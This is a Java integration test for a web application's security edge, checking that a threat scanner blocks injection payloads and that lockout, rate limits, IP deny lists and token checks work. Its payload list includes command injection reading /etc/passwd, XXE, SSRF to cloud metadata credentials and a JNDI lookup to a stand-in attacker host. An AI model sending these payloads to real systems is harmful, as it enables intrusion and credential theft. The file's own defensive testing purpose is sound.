@@ -1,0 +1,301 @@
+package io.antbot.web;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.antbot.bus.Addresses;
+import io.antbot.launcher.AntBot;
+import io.antbot.launcher.LaunchOptions;
+import io.antbot.security.SecurityTestSupport;
+import io.antbot.testing.TestConf;
+import io.vertx.core.Future;
+import io.vertx.core.Promise;
+import io.vertx.core.Vertx;
+import io.vertx.core.buffer.Buffer;
+import io.vertx.core.json.JsonArray;
+import io.vertx.core.json.JsonObject;
+import io.vertx.ext.web.client.HttpRequest;
+import io.vertx.ext.web.client.HttpResponse;
+import io.vertx.ext.web.client.WebClient;
+import io.vertx.ext.web.client.WebClientOptions;
+import io.vertx.junit5.VertxExtension;
+import io.vertx.junit5.VertxTestContext;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.nio.file.StandardOpenOption;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.function.Supplier;
+import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.extension.ExtendWith;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * The edge chain through real HTTP requests against the whole runtime (staging, port 0): IP lists, rate limits,
+ * threat scan, JWT authentication and the role check, with security headers on every response.
+ */
+@ExtendWith(VertxExtension.class)
+class EdgeChainHttpTest {
+
+  private static final String PASSWORD = "correct horse battery staple";
+
+  @TempDir
+  static Path dir;
+
+  private static WebClient client;
+  private static String adminToken;
+  private static String viewerToken;
+
+  @BeforeAll
+  static void start(Vertx vertx, VertxTestContext test) throws IOException {
+    Path conf = TestConf.copyIsolated(dir.resolve("conf"));
+    SecurityTestSupport.presetRsaKey(dir.resolve("conf").resolve("var"));
+    Files.writeString(conf.resolve("staging.yaml"), """
+
+      security:
+        bcrypt_cost: 4
+        rsa: {key_bits: 2048}
+        jwt: {rsa_bits: 2048}
+        audit: {fsync: false}
+        lockout: {max_failures_per_user: 3, lockout_base_s: 1}
+        rate_limits:
+          policies:
+            login: {capacity: 50, refill: 50, period_s: 60}
+            tight: {capacity: 2, refill: 2, period_s: 60}
+      """, StandardOpenOption.APPEND);
+    AntBot.start(vertx, new LaunchOptions(conf.toString(), "staging", 0))
+      .compose(id -> vertx.eventBus().<JsonObject>request(Addresses.HTTP_STATUS, new JsonObject()))
+      .compose(status -> {
+        int port = status.body().getJsonObject("details").getInteger("port");
+        client = WebClient.create(vertx, new WebClientOptions().setDefaultHost("127.0.0.1").setDefaultPort(port));
+        return Future.all(addUser(vertx, "edgeadmin", "admin"), addUser(vertx, "edgeviewer", "viewer"),
+          addUser(vertx, "edgelocked", "viewer"));
+      })
+      .compose(v -> login("edgeadmin", PASSWORD))
+      .compose(admin -> {
+        adminToken = admin.bodyAsJsonObject().getString("access_token");
+        return login("edgeviewer", PASSWORD);
+      })
+      .onComplete(test.succeeding(viewer -> {
+        viewerToken = viewer.bodyAsJsonObject().getString("access_token");
+        test.verify(() -> assertThat(adminToken).isNotNull());
+        test.completeNow();
+      }));
+  }
+
+  private static Future<Void> addUser(Vertx vertx, String name, String role) {
+    return vertx.eventBus().request(Addresses.SECURITY_USERS_ADD, new JsonObject().put("username", name)
+      .put("password", PASSWORD).put("roles", new JsonArray().add(role))).mapEmpty();
+  }
+
+  private static Future<HttpResponse<Buffer>> login(String user, String password) {
+    return client.post("/api/v1/auth/login")
+      .sendJsonObject(new JsonObject().put("username", user).put("password", password));
+  }
+
+  private static Future<Void> set(Vertx vertx, String key, Object value) {
+    return vertx.eventBus().request(Addresses.CONFIG_SET, new JsonObject().put("key", key).put("value", value)
+      .put("reason", "test").put("actor", "tester")).mapEmpty();
+  }
+
+  /** The value as an attack in the query string of a public-looking API request, or in a body for XML / JSON. */
+  private static Future<HttpResponse<Buffer>> attack(String category, String payload) {
+    return switch (category) {
+      case "xxe" -> client.post("/api/v1/config/validate").timeout(5000).putHeader("Content-Type", "application/xml")
+        .sendBuffer(Buffer.buffer(payload));
+      case "nosql" -> client.post("/api/v1/auth/login").timeout(5000).sendJsonObject(new JsonObject(payload));
+      default -> client.get("/api/v1/config").timeout(5000).addQueryParam("q", payload).send();
+    };
+  }
+
+  private static final String[][] ATTACKS = {
+    {"sqli", "1' or '1'='1"},
+    {"xss", "<img src=x onerror=alert(1)>"},
+    {"traversal", "../../../../etc/passwd"},
+    {"command", "127.0.0.1; cat /etc/passwd"},
+    {"ldap", "*)(uid=*))(|(uid=*"},
+    {"xxe", "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>"},
+    {"ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
+    {"template", "{{config.items()}}"},
+    {"jndi", "${jndi:ldap://evil.example/a}"},
+    {"nosql", "{\"username\": \"edgeadmin\", \"password\": {\"$gt\": \"\"}}"},
+  };
+
+  @Test
+  @DisplayName("an attack of each category is refused with 403 problem+json that names no rule")
+  void attacksBlocked(VertxTestContext test) {
+    List<Future<HttpResponse<Buffer>>> sent = new ArrayList<>();
+    for (String[] attack : ATTACKS) {
+      sent.add(attack(attack[0], attack[1]).recover(f -> Future.failedFuture(attack[0] + ": " + f)));
+    }
+    Future.all(sent).onComplete(test.succeeding(all -> test.verify(() -> {
+      for (int i = 0; i < ATTACKS.length; i++) {
+        HttpResponse<Buffer> response = sent.get(i).result();
+        assertThat(response.statusCode()).as(ATTACKS[i][0]).isEqualTo(403);
+        assertThat(response.getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
+        JsonObject problem = response.bodyAsJsonObject();
+        assertThat(problem.getString("detail")).as(ATTACKS[i][0]).isEqualTo("request blocked");
+        assertThat(response.bodyAsString()).doesNotContain("sqli", "xss", "lfi", "cmd-", "ldap", "xxe", "ssrf", "ssti",
+          "jndi", "nosql", "rule");
+      }
+      test.completeNow();
+    })));
+  }
+
+  @Test
+  @DisplayName("in detect-only mode attacks pass and a threat_detected event is recorded")
+  void detectOnly(Vertx vertx, VertxTestContext test) {
+    String probe = "1' or '1'='1";
+    set(vertx, "security.threats.mode", "detect-only")
+      .compose(v -> eventually(vertx, () -> client.get("/api/v1/config").addQueryParam("q", probe)
+        .bearerTokenAuthentication(adminToken).send().map(r -> r.statusCode() == 200)))
+      .compose(v -> vertx.eventBus().<JsonObject>request(Addresses.SECURITY_EVENTS_QUERY, new JsonObject().put("limit", 50)))
+      .compose(events -> set(vertx, "security.threats.mode", "block").map(events.body()))
+      .compose(events -> eventually(vertx, () -> client.get("/api/v1/config").addQueryParam("q", probe)
+        .bearerTokenAuthentication(adminToken).send().map(r -> r.statusCode() == 403)).map(events))
+      .onComplete(test.succeeding(events -> test.verify(() -> {
+        assertThat(events.getJsonArray("events").stream().map(JsonObject.class::cast)
+          .filter(e -> "threat_detected".equals(e.getString("type")))
+          .anyMatch(e -> !e.getJsonObject("details").getBoolean("blocked"))).isTrue();
+        test.completeNow();
+      })));
+  }
+
+  @Test
+  @DisplayName("failed logins lock the user out with 429, and the lock lifts by itself")
+  void lockoutAndUnlock(Vertx vertx, VertxTestContext test) {
+    login("edgelocked", "wrong password 1")
+      .compose(r -> login("edgelocked", "wrong password 2"))
+      .compose(r -> login("edgelocked", "wrong password 3"))
+      .compose(third -> {
+        test.verify(() -> assertThat(third.statusCode()).isEqualTo(401));
+        return login("edgelocked", PASSWORD);
+      })
+      .compose(locked -> {
+        test.verify(() -> {
+          assertThat(locked.statusCode()).isEqualTo(429);
+          assertThat(locked.bodyAsJsonObject().getString("detail")).isEqualTo("too many failed logins; try again in 1 s");
+        });
+        return delay(vertx, 1_100).compose(v -> login("edgelocked", PASSWORD));
+      })
+      .onComplete(test.succeeding(unlocked -> test.verify(() -> {
+        assertThat(unlocked.statusCode()).isEqualTo(200);
+        assertThat(unlocked.bodyAsJsonObject().getString("access_token")).isNotBlank();
+        test.completeNow();
+      })));
+  }
+
+  @Test
+  @DisplayName("the login limit answers 429 with exact headers, and a spoofed X-Forwarded-For does not reset it")
+  void loginRateLimit(Vertx vertx, VertxTestContext test) {
+    set(vertx, "security.rate_limits.route_classes", new JsonObject().put("login", "tight"))
+      .compose(v -> eventually(vertx, () -> vertx.eventBus().<JsonObject>request(Addresses.SECURITY_EDGE_ADMIT,
+          new JsonObject().put("remote_ip", "192.0.2.99").put("route_class", "login"))
+        .map(reply -> reply.body().getJsonObject("headers").getString("RateLimit-Policy", "").contains("tight"))))
+      .compose(v -> spoofed("198.51.100.1"))
+      .compose(first -> spoofed("198.51.100.2"))
+      .compose(second -> spoofed("198.51.100.3"))
+      .onComplete(test.succeeding(third -> test.verify(() -> {
+        assertThat(third.statusCode()).isEqualTo(429);
+        assertThat(third.getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
+        assertThat(third.bodyAsJsonObject().getString("detail")).isEqualTo("rate limit exceeded");
+        assertThat(third.getHeader("RateLimit-Policy")).isEqualTo("\"tight\";q=2;w=60");
+        assertThat(third.getHeader("RateLimit")).isEqualTo("\"tight\";r=0;t=60");
+        assertThat(third.getHeader("Retry-After")).isEqualTo("30");
+        set(vertx, "security.rate_limits.route_classes", new JsonObject().put("login", "login"))
+          .onComplete(test.succeedingThenComplete());
+      })));
+  }
+
+  private static Future<HttpResponse<Buffer>> spoofed(String forwardedFor) {
+    return client.post("/api/v1/auth/login").putHeader("X-Forwarded-For", forwardedFor)
+      .sendJsonObject(new JsonObject().put("username", "nobody").put("password", "x"));
+  }
+
+  @Test
+  @DisplayName("a deny-listed peer stays refused whatever X-Forwarded-For it sends")
+  void denyListNotEscaped(Vertx vertx, VertxTestContext test) {
+    set(vertx, "security.ip_lists.deny", new JsonArray().add("127.0.0.1"))
+      .compose(v -> eventually(vertx, () -> client.get("/api/v1/openapi.json").putHeader("X-Forwarded-For", "198.51.100.7")
+        .send().map(r -> r.statusCode() == 403)))
+      .compose(v -> client.get("/api/v1/config").putHeader("X-Forwarded-For", "198.51.100.7")
+        .bearerTokenAuthentication(adminToken).send())
+      .compose(denied -> set(vertx, "security.ip_lists.deny", new JsonArray()).map(denied))
+      .compose(denied -> eventually(vertx, () -> client.get("/api/v1/openapi.json").send().map(r -> r.statusCode() == 200))
+        .map(denied))
+      .onComplete(test.succeeding(denied -> test.verify(() -> {
+        assertThat(denied.statusCode()).isEqualTo(403);
+        assertThat(denied.bodyAsJsonObject().getString("detail")).isEqualTo("access denied");
+        test.completeNow();
+      })));
+  }
+
+  @Test
+  @DisplayName("no token is 401, a role without the permission is 403, a good token is 200, with security headers")
+  void authentication(VertxTestContext test) {
+    Future<HttpResponse<Buffer>> none = client.get("/api/v1/config").send();
+    Future<HttpResponse<Buffer>> bad = client.get("/api/v1/config").bearerTokenAuthentication("not.a.token").send();
+    Future<HttpResponse<Buffer>> viewerWrites = client.put("/api/v1/config/trading.dry_run")
+      .bearerTokenAuthentication(viewerToken).sendJsonObject(new JsonObject().put("value", true));
+    Future<HttpResponse<Buffer>> good = client.get("/api/v1/config").bearerTokenAuthentication(viewerToken).send();
+    Future.all(none, bad, viewerWrites, good).onComplete(test.succeeding(all -> test.verify(() -> {
+      assertThat(none.result().statusCode()).isEqualTo(401);
+      assertThat(none.result().bodyAsJsonObject().getString("detail")).isEqualTo("missing bearer token");
+      assertThat(bad.result().statusCode()).isEqualTo(401);
+      assertThat(bad.result().bodyAsJsonObject().getString("detail")).startsWith("token rejected: ");
+      assertThat(viewerWrites.result().statusCode()).isEqualTo(403);
+      assertThat(good.result().statusCode()).isEqualTo(200);
+      assertThat(good.result().bodyAsJsonObject().getJsonObject("config")).isNotNull();
+      for (HttpResponse<Buffer> response : List.of(none.result(), viewerWrites.result(), good.result())) {
+        assertThat(response.getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
+        assertThat(response.getHeader("X-Frame-Options")).isEqualTo("DENY");
+        assertThat(response.getHeader("Referrer-Policy")).isEqualTo("no-referrer");
+        assertThat(response.getHeader("Cache-Control")).isEqualTo("no-store");
+        assertThat(response.getHeader("Strict-Transport-Security")).isNull();
+      }
+      test.completeNow();
+    })));
+  }
+
+  @Test
+  @DisplayName("health routes answer without a token and carry the security headers; a too large body is 413")
+  void outsideTheChain(VertxTestContext test) {
+    Future<HttpResponse<Buffer>> live = client.get("/health/live").send();
+    Future<HttpResponse<Buffer>> large = client.post("/api/v1/security/scan").bearerTokenAuthentication(adminToken)
+      .putHeader("Content-Type", "application/json").sendBuffer(Buffer.buffer(new byte[2 * 1024 * 1024]));
+    Future.all(live, large).onComplete(test.succeeding(all -> test.verify(() -> {
+      assertThat(live.result().statusCode()).isEqualTo(200);
+      assertThat(live.result().getHeader("X-Content-Type-Options")).isEqualTo("nosniff");
+      assertThat(live.result().getHeader("Cache-Control")).isNull();
+      assertThat(large.result().statusCode()).isEqualTo(413);
+      assertThat(large.result().getHeader("Content-Type")).isEqualTo(Problem.CONTENT_TYPE);
+      test.completeNow();
+    })));
+  }
+
+  private static Future<Void> delay(Vertx vertx, long ms) {
+    Promise<Void> done = Promise.promise();
+    vertx.setTimer(ms, id -> done.complete());
+    return done.future();
+  }
+
+  /** Re-checks every 50 ms on a Vert.x timer, for at most 10 s. */
+  private static Future<Void> eventually(Vertx vertx, Supplier<Future<Boolean>> check) {
+    Promise<Void> done = Promise.promise();
+    long deadline = System.currentTimeMillis() + 10_000;
+    Runnable[] attempt = new Runnable[1];
+    attempt[0] = () -> check.get().onComplete(result -> {
+      if (result.succeeded() && result.result()) {
+        done.complete();
+      } else if (System.currentTimeMillis() > deadline) {
+        done.fail("condition not met within 10 s" + (result.failed() ? ": " + result.cause() : ""));
+      } else {
+        vertx.setTimer(50, t -> attempt[0].run());
+      }
+    });
+    attempt[0].run();
+    return done.future();
+  }
+}
